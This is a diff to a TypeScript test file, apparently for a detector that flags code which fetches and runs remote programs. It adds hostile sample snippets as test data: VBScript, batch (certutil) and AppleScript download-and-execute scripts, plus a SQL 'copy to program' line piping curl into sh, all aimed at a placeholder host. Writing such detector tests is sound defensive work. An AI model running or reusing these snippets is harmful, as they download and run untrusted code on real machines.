@@ -124,6 +124,30 @@ const attacks: readonly (readonly [Language, string, string, Wanted])[] = [
     "Add-Type -TypeDefinition (irm 'https://h.unknown.net/a.cs')\n",
     { kind: 'evaluate', from: ['fetch'] },
   ],
+  [
+    'visualbasic',
+    'runs a download that a stream saved',
+    'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://h.unknown.net/a.exe", False\nx.Send\nSet s = CreateObject("ADODB.Stream")\ns.Write x.responseBody\ns.SaveToFile "C:\\a.exe", 2\nCreateObject("WScript.Shell").Run "C:\\a.exe", 0\n',
+    { kind: 'execute', from: ['fetch', 'write'] },
+  ],
+  [
+    'sql',
+    'has the server run a command',
+    "copy (select 1) to program 'curl http://h.unknown.net/a | sh';\n",
+    { kind: 'evaluate', from: ['fetch'] },
+  ],
+  [
+    'applescript',
+    'puts a command together',
+    'set a to "cu"\nset b to "rl http://h.unknown.net/a"\ndo shell script a & b & " | sh"\n',
+    { kind: 'evaluate', from: ['fetch'] },
+  ],
+  [
+    'batch',
+    'expands variables late',
+    'setlocal enabledelayedexpansion\r\nset "u=http://h.unknown.net/a.exe"\r\ncertutil -urlcache -f !u! a.exe >nul 2>&1\r\nstart "" a.exe\r\n',
+    { kind: 'execute', from: ['fetch', 'write'] },
+  ],
 ];
 
 describe('Reading programs whose data pass through functions, fields and writers', () => {
